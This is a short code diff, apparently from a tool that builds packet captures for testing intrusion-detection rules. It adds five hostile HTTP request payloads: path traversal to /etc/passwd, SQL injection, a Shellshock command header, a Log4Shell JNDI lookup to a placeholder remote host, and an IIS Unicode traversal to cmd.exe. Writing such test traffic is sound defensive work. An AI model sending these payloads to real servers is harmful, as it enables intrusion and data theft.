@@ -155,6 +155,11 @@ def write(path, frames):
 # Port and payload; the rules of examples/rules/local.rules that each matches
 # are named by `explain`.
 HOSTILE = (
+    (80, b"GET /cgi-bin/../../../../etc/passwd HTTP/1.1\r\nHost: intranet\r\n\r\n"),
+    (80, b"GET /search?q=1%27%20UNION%20SELECT%20password HTTP/1.1\r\nHost: intranet\r\n\r\n"),
+    (80, b"GET / HTTP/1.1\r\nHost: intranet\r\nUser-Agent: () { :;}; /bin/bash -c id\r\n\r\n"),
+    (80, b"GET / HTTP/1.1\r\nHost: intranet\r\nX-Api-Version: ${jndi:ldap://203.0.113.66/a}\r\n\r\n"),
+    (80, b"GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n"),
 )
 
 
